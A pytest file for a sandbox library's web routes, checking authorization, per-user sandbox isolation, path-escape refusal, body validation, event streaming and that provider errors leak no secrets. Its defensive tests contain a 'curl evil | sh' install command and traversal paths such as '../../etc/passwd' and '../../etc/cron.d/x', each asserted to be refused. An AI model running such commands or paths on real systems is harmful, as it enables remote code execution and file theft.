"""The routes over the in-memory provider: who reaches what, what comes back, and what never does.

Names with W and a number are the weaknesses of the application that these routes replace.
"""

from __future__ import annotations

import base64
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import anyio
import httpx
import pytest
from starlette.applications import Starlette
from starlette.exceptions import HTTPException
from starlette.requests import Request
from starlette.routing import Mount

from sandboxkit import AsyncSafeFS, AsyncSandboxPool, errors
from sandboxkit.adapters.asgi import RunResult, routes
from sandboxkit.adapters.asgi._owned import session_key
from sandboxkit.errors import ProviderUnavailable
from sandboxkit.template import Template
from sandboxkit.testing import FakeProvider, Fault

pytestmark = pytest.mark.anyio

CODE = "code-interpreter-v1"
APP = Template("base", file="app.py", port=8501, start="serve")


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


async def who(request: Request) -> str | None:
    """The principal is what the header says; a name that is `boom` breaks the hook."""
    name = request.headers.get("x-user")
    if name == "boom":
        raise KeyError("/etc/secret")
    if name == "teapot":
        raise HTTPException(403, "Not you.")
    return name


@pytest.fixture
def fake() -> FakeProvider:
    return FakeProvider()


@pytest.fixture
async def pool(fake: FakeProvider) -> AsyncIterator[AsyncSandboxPool]:
    async with AsyncSandboxPool(endpoint=fake) as made:
        yield made


@pytest.fixture
def app(pool: AsyncSandboxPool) -> Starlette:
    return routes(pool, authorize=who, max_body=4096)


@pytest.fixture
async def http(app: Starlette) -> AsyncIterator[httpx.AsyncClient]:
    transport = httpx.ASGITransport(app, raise_app_exceptions=False)
    async with httpx.AsyncClient(transport=transport, base_url="http://app", headers={"x-user": "alice"}) as client:
        yield client


BOB = {"x-user": "bob"}


async def run(http: httpx.AsyncClient, code: str = "1", **more: Any) -> Any:
    answer = await http.post("/api/sandbox", json={"fragment": {"template": CODE, "code": code}, **more})
    assert answer.status_code == 200, answer.text
    return answer.json()


def failed(answer: httpx.Response) -> tuple[int, str]:
    return answer.status_code, answer.json()["error"]["code"]


async def test_code_runs_and_its_result_is_the_answer(http: httpx.AsyncClient) -> None:
    """Output, main value and files come back, and fit the model that the description has; an exception is data."""
    done = await run(http, "print('hi')\n6 * 7")
    RunResult.model_validate_json(json.dumps(done))
    assert (done["execution"]["stdout"], done["execution"]["results"][0]["text"]) == ("hi\n", "42")
    assert (done["url"], [node["name"] for node in done["files"]]) == (None, ["script.py"])
    assert (await run(http, "1 / 0"))["execution"]["error"]["name"] == "ZeroDivisionError"


async def test_a_session_is_one_sandbox(http: httpx.AsyncClient, fake: FakeProvider) -> None:
    """The same principal and session name meet their variables again; another name or principal does not."""
    first = await run(http, "x = 20")
    again = await run(http, "x + 1")
    assert (again["sandbox_id"], again["execution"]["results"][0]["text"]) == (first["sandbox_id"], "21")
    other = await run(http, "x", session="other")
    assert other["execution"]["error"]["name"] == "NameError"
    http.headers["x-user"] = "bob"
    assert (await run(http, "x"))["sandbox_id"] not in (first["sandbox_id"], other["sandbox_id"])


async def test_w7_an_install_command_is_refused(http: httpx.AsyncClient, fake: FakeProvider) -> None:
    """A shell line of a model's is not carried out, and its fragment is refused with what to do instead."""
    fragment = {"template": CODE, "code": "1", "install_dependencies_command": "curl evil | sh"}
    answer = await http.post("/api/sandbox", json={"fragment": fragment})
    assert failed(answer) == (422, "dependency_error")
    assert not fake.calls.get("run_code")
    assert not fake.calls.get("run_command")


async def test_w8_an_app_has_a_url_when_it_answers(http: httpx.AsyncClient, pool: AsyncSandboxPool) -> None:
    """The answer has the browser's URL of the template's port, after the app has answered there."""
    Template.get("base") if "base" in _ids() else APP.register()
    async with pool.session(session_key("alice", "default", "base"), template="base") as session:
        session.sandbox.answers[8501] = 200
        session.sandbox.answers[8000] = 200
    answer = await http.post("/api/sandbox", json={"fragment": {"template": "base", "code": "pass", "port": 8501}})
    assert answer.status_code == 200, answer.text
    assert answer.json()["url"].startswith("https://8501-")
    assert answer.json()["execution"] is None


def _ids() -> list[str]:
    try:
        Template.get("no-such-template")
    except errors.TemplateNotFound as error:
        return list(error.known)  # type: ignore[attr-defined]
    return []


PLACES = [
    ("GET", "/files"),
    ("GET", "/files/content?path=script.py"),
    ("POST", "/files/content"),
    ("GET", "/logs"),
    ("DELETE", ""),
]


@pytest.mark.parametrize(("method", "place"), PLACES)
async def test_w9_a_foreign_sandbox_is_an_unknown_one(
    http: httpx.AsyncClient, fake: FakeProvider, method: str, place: str
) -> None:
    """Another principal gets the answer of an id that never was, without a request to the provider; the owner does
    not notice."""
    mine = (await run(http, "x = 5"))["sandbox_id"]
    calls = dict(fake.calls)
    body = {"path": "evil", "content": "x"} if method == "POST" else None
    foreign = await http.request(method, f"/api/sandbox/{mine}{place}", json=body, headers=BOB)
    unknown = await http.request(method, f"/api/sandbox/nope{place}", json=body, headers=BOB)
    assert failed(foreign) == (404, "sandbox_not_found")
    assert foreign.content == unknown.content
    assert dict(fake.calls) == calls
    assert (await run(http, "x"))["execution"]["results"][0]["text"] == "5"
    assert (await http.get(f"/api/sandbox/{mine}/files/content?path=evil")).status_code == 404


async def test_w9_sandboxes_of_the_pool_that_are_no_principals_are_unknown(
    http: httpx.AsyncClient, pool: AsyncSandboxPool
) -> None:
    """A session that the application opens itself is reached by no route."""
    async with pool.session("alice") as session:
        answer = await http.get(f"/api/sandbox/{session.sandbox_id}/files")
    assert failed(answer) == (404, "sandbox_not_found")


@pytest.mark.parametrize(("method", "place"), [*PLACES, ("POST", None)])
@pytest.mark.parametrize("user", ["", "boom", None])
async def test_nobody_is_401_before_anything(
    http: httpx.AsyncClient, fake: FakeProvider, method: str, place: str | None, user: str | None
) -> None:
    """Whoever is not named, or whose hook fails, gets a 401 that says nothing, and no sandbox."""
    del http.headers["x-user"]
    path = "/api/sandbox" if place is None else f"/api/sandbox/x{place}"
    answer = await http.request(method, path, headers={} if user is None else {"x-user": user})
    assert failed(answer) == (401, "unauthorized")
    assert answer.headers["www-authenticate"]
    assert "secret" not in answer.text
    assert not fake.calls.get("create")


async def test_the_hook_may_answer_itself(http: httpx.AsyncClient) -> None:
    """Starlette's HTTPException of a hook is the answer."""
    answer = await http.get("/api/sandbox/x/files", headers={"x-user": "teapot"})
    assert failed(answer) == (403, "http_error")


ESCAPES = ["../../etc/passwd", "/etc/passwd", "/home/userX/../user/a", "/home/user2/x", "a\0b", "/home/user/../../x"]


@pytest.mark.parametrize("path", ESCAPES)
async def test_w10_no_path_leads_out(http: httpx.AsyncClient, path: str) -> None:
    """Each path that leads out is refused, for reading and for writing, not bent to something else."""
    at = f"/api/sandbox/{(await run(http))['sandbox_id']}/files/content"
    for answer in (
        await http.get(at, params={"path": path}),
        await http.post(at, json={"path": path, "content": "x"}),
    ):
        assert answer.status_code == 403, answer.text
        assert answer.json()["error"]["code"] in ("path_escape", "invalid_path")


@pytest.mark.parametrize("path", [["a"], 3, {"a": 1}, None, True])
async def test_w10_a_path_of_another_type_is_422(http: httpx.AsyncClient, path: Any) -> None:
    """A path that is no text does not fit, and is not repeated."""
    at = f"/api/sandbox/{(await run(http))['sandbox_id']}/files/content"
    assert failed(await http.post(at, json={"path": path, "content": "x"})) == (422, "validation_error")


async def test_w10_a_fragment_cannot_write_outside(http: httpx.AsyncClient, fake: FakeProvider) -> None:
    """Its paths are guarded before a sandbox is made."""
    fragment = {"template": CODE, "code": "1", "file": "../../etc/cron.d/x"}
    assert failed(await http.post("/api/sandbox", json={"fragment": fragment})) == (422, "validation_error")
    assert not fake.calls.get("create")


async def test_w11_every_path_of_the_tree_can_be_read(http: httpx.AsyncClient) -> None:
    """The tree has directories with their children, and the paths in it are those that the content route takes."""
    at = f"/api/sandbox/{(await run(http))['sandbox_id']}/files"
    for path, text in (("a/b/c.txt", "deep"), ("d é.txt", "ä")):
        written = await http.post(f"{at}/content", json={"path": path, "content": text})
        assert written.json() == {"path": f"/home/user/{path}", "size": len(text.encode())}
    top = {node["name"]: node for node in (await http.get(at)).json()["files"]}
    assert (top["a"]["type"], top["d é.txt"]["type"]) == ("dir", "file")
    deep = top["a"]["children"][0]["children"][0]
    assert deep["path"] == "/home/user/a/b/c.txt"
    read = (await http.get(f"{at}/content", params={"path": deep["path"]})).json()
    assert read == {"path": deep["path"], "content": "deep", "encoding": "utf-8"}
    read = (await http.get(f"{at}/content", params={"path": top["d é.txt"]["path"]})).json()
    assert read["content"] == "ä"


async def test_w12_several_files_are_written_and_the_named_one_runs(http: httpx.AsyncClient) -> None:
    """A fragment of several files is one; nothing of it is taken for code that is not."""
    files = {"main.py": "len(open('/home/user/d/a.txt').read())", "d/a.txt": "12345"}
    answer = await http.post("/api/sandbox", json={"fragment": {"template": CODE, "files": files, "file": "main.py"}})
    assert answer.json()["execution"]["results"][0]["text"] == "5"


async def test_w13_what_is_missing_a_directory_binary_too_large_or_gone(
    http: httpx.AsyncClient, fake: FakeProvider
) -> None:
    """Each has an answer of its own, and binary content comes as base64 and goes so."""
    made = (await run(http))["sandbox_id"]
    at = f"/api/sandbox/{made}/files/content"
    assert failed(await http.get(at, params={"path": "nope"})) == (404, "not_found")
    assert failed(await http.get(at, params={"path": "."})) == (409, "is_a_directory")
    assert failed(await http.get(at)) == (422, "validation_error")
    blob = base64.b64encode(b"\xff\x00\xfe").decode()
    await http.post(at, json={"path": "blob", "content": blob, "encoding": "base64"})
    read = (await http.get(at, params={"path": "blob"})).json()
    assert (read["content"], read["encoding"]) == (blob, "base64")
    bad = await http.post(at, json={"path": "blob", "content": "*", "encoding": "base64"})
    assert failed(bad) == (422, "validation_error")
    await run(http, "open('/home/user/big', 'w').write('x' * 5000)")
    assert failed(await http.get(at, params={"path": "big"})) == (413, "too_large")
    fake.crash(made)
    assert failed(await http.get(at, params={"path": "blob"})) == (404, "sandbox_not_found")


async def test_w13_what_the_provider_says_goes_to_nobody(http: httpx.AsyncClient, fake: FakeProvider) -> None:
    """A failing provider is a 503 in our words, as JSON and as the answer to a stream that has not begun."""
    for headers in ({}, {"accept": "text/event-stream"}):
        fake.inject("create", Fault(error=ProviderUnavailable("host-7:/srv/secret says no"), times=9))
        body = {"fragment": {"template": CODE, "code": "1"}, "session": f"s{len(headers)}"}
        answer = await http.post("/api/sandbox", json=body, headers=headers)
        assert answer.status_code == 503
        assert answer.headers["retry-after"]
        assert "secret" not in answer.text


def stream_of(text: str) -> list[tuple[str, dict[str, Any]]]:
    pieces = [piece.split("\n") for piece in text.removesuffix("\n\n").split("\n\n")]
    return [(name.removeprefix("event: "), json.loads(data.removeprefix("data: "))) for name, data in pieces]


async def test_w15_the_steps_come_as_events(http: httpx.AsyncClient) -> None:
    """Each step is an event, the last one has the result; the same result as without a stream."""
    body = {"fragment": {"template": CODE, "code": "print('a\\n\\nb')"}}
    answer = await http.post("/api/sandbox", json=body, headers={"accept": "text/event-stream"})
    assert answer.headers["content-type"].startswith("text/event-stream")
    events = stream_of(answer.text)
    assert [(name, data.get("step")) for name, data in events] == [
        ("fragment.step", "write"),
        ("fragment.step", "run"),
        ("fragment.finished", None),
    ]
    result = events[-1][1]["result"]
    RunResult.model_validate_json(json.dumps(result))
    assert result["execution"]["stdout"] == "a\n\nb\n"


async def test_w15_an_error_on_the_way_is_the_last_event(http: httpx.AsyncClient, fake: FakeProvider) -> None:
    """What fails after the first event is told as one, in our words."""
    fake.inject("run_code", Fault(error=errors.KernelDied("secret")))
    body = {"fragment": {"template": CODE, "code": "1"}}
    answer = await http.post("/api/sandbox", json=body, headers={"accept": "text/event-stream"})
    assert answer.status_code == 200
    name, data = stream_of(answer.text)[-1]
    assert (name, data["error"]["code"]) == ("error", "kernel_died")
    assert "secret" not in answer.text


async def test_w5_w15_a_client_that_goes_ends_the_run_and_gives_the_session_back(
    app: Starlette, pool: AsyncSandboxPool, fake: FakeProvider
) -> None:
    """When the client goes while code runs, the request ends, and the sandbox is free for others."""
    fake.inject("run_code", Fault(delay=3600))
    body = json.dumps({"fragment": {"template": CODE, "code": "1"}}).encode()
    has_begun, sent = anyio.Event(), list[Any]()
    messages = [{"type": "http.request", "body": body, "more_body": False}]

    async def receive() -> Any:
        if messages:
            return messages.pop()
        await has_begun.wait()
        return {"type": "http.disconnect"}

    async def send(message: Any) -> None:
        sent.append(message)
        if b'"run"' in message.get("body", b""):
            has_begun.set()

    headers = {"content-type": "application/json", "accept": "text/event-stream", "x-user": "alice"}
    scope = {
        "type": "http",
        "asgi": {"version": "3.0", "spec_version": "2.4"},
        "method": "POST",
        "path": "/api/sandbox",
        "raw_path": b"/api/sandbox",
        "root_path": "",
        "query_string": b"",
        "headers": [(name.encode(), value.encode()) for name, value in headers.items()],
    }
    with anyio.fail_after(30):
        await app(scope, receive, send)
    assert sent[0]["status"] == 200
    assert pool.stats()["in_use"] == 0


@pytest.mark.parametrize(
    ("content", "kind", "expected"),
    [
        (b"{", "application/json", (400, "malformed_json")),
        (b"\xff", "application/json", (400, "malformed_json")),
        (b"", "application/json", (400, "malformed_json")),
        (b"[]", "application/json", (422, "validation_error")),
        (b"{}", "application/json", (422, "validation_error")),
        (b'{"fragment": null}', "application/json", (422, "validation_error")),
        (b"x" * 5000, "application/json", (413, "body_too_large")),
        (b"{}", "text/plain", (415, "unsupported_media_type")),
        (b"a=b", "application/x-www-form-urlencoded", (415, "unsupported_media_type")),
        (b'{"fragment": {"template": "none", "code": "1"}}', "application/json", (404, "template_not_found")),
        (b'{"fragment": {"template": "base", "code": "1"}, "x": 1}', "application/json", (422, "validation_error")),
    ],
)
async def test_bodies_that_are_refused(
    http: httpx.AsyncClient, fake: FakeProvider, content: bytes, kind: str, expected: tuple[int, str]
) -> None:
    """Each kind of bad body has its status, and makes no sandbox."""
    answer = await http.post("/api/sandbox", content=content, headers={"content-type": kind})
    assert failed(answer) == expected
    assert not fake.calls.get("create")


async def test_w16_no_request_lists_the_sandboxes(http: httpx.AsyncClient, fake: FakeProvider) -> None:
    """Which sandbox is whose is known here; no route asks the provider for all of them."""
    at = f"/api/sandbox/{(await run(http))['sandbox_id']}"
    for path in ("/files", "/files/content?path=script.py", "/logs"):
        assert (await http.get(f"{at}{path}")).status_code == 200
    assert (await http.delete(at)).status_code == 204
    assert not fake.calls.get("list")


async def test_the_end_and_the_log(http: httpx.AsyncClient, fake: FakeProvider, pool: AsyncSandboxPool) -> None:
    """The log is empty where there is no app, else its end; a deleted sandbox is gone at once, and for good."""
    made = (await run(http))["sandbox_id"]
    at = f"/api/sandbox/{made}"
    assert (await http.get(f"{at}/logs")).json() == {"sandbox_id": made, "log": ""}
    async with pool.session(session_key("alice", "default", CODE)) as session:
        await AsyncSafeFS(session.sandbox, root="/tmp/.sandboxkit").write("app.log", b"x" * 70_000 + b"\xff end")
    log = (await http.get(f"{at}/logs")).json()["log"]
    assert (len(log), log[-6:]) == (65_536, "x\ufffd end")
    assert (await http.delete(at)).status_code == 204
    assert failed(await http.delete(at)) == (404, "sandbox_not_found")
    assert (await run(http))["sandbox_id"] != made


async def test_a_method_or_a_path_that_is_none(http: httpx.AsyncClient) -> None:
    """405 names what the path takes; 404 is an error as all are."""
    answer = await http.put("/api/sandbox/x/files/content")
    assert answer.status_code == 405
    assert {"GET", "POST"} <= set(answer.headers["allow"].split(", "))
    assert failed(await http.get("/api/nothing")) == (404, "http_error")


async def test_mounted_below_another_application(app: Starlette) -> None:
    """Below a prefix everything is the same, and the description names it."""
    outer = Starlette(routes=[Mount("/tools", app)])
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(outer), base_url="http://app/tools", headers={"x-user": "alice"}
    ) as http:
        assert (await run(http, "1"))["template"] == CODE
        told = (await http.get("/openapi.json")).json()
    assert told["servers"] == [{"url": "/tools"}]


async def test_what_nobody_expected_is_500_and_says_nothing(
    http: httpx.AsyncClient, fake: FakeProvider, pool: AsyncSandboxPool
) -> None:
    """An error that is not the library's is told to the server's log, and not to the caller."""
    for headers in ({}, {"accept": "text/event-stream"}):
        fake.inject("run_code", Fault(error=RuntimeError("/srv/secret")))
        body = {"fragment": {"template": CODE, "code": "1"}}
        answer = await http.post("/api/sandbox", json=body, headers=headers)
        assert "internal_error" in answer.text
        assert "secret" not in answer.text
    assert pool.stats()["in_use"] == 0


async def test_mounted_when_the_application_starts(fake: FakeProvider) -> None:
    """The pool is made and opened by the outer application's lifespan, as the how-to page does, and ends with it."""

    @asynccontextmanager
    async def lifespan(app: Starlette) -> AsyncIterator[None]:
        async with AsyncSandboxPool(endpoint=fake) as pool:
            app.mount("/", routes(pool, authorize=who))
            yield

    outer = Starlette(lifespan=lifespan)
    async with (
        outer.router.lifespan_context(outer),
        httpx.AsyncClient(
            transport=httpx.ASGITransport(outer), base_url="http://app", headers={"x-user": "alice"}
        ) as http,
    ):
        assert (await run(http))["sandbox_id"] in fake.live
        assert (await http.get("/openapi.json")).json()["servers"] == [{"url": "/"}]
    assert not fake.live
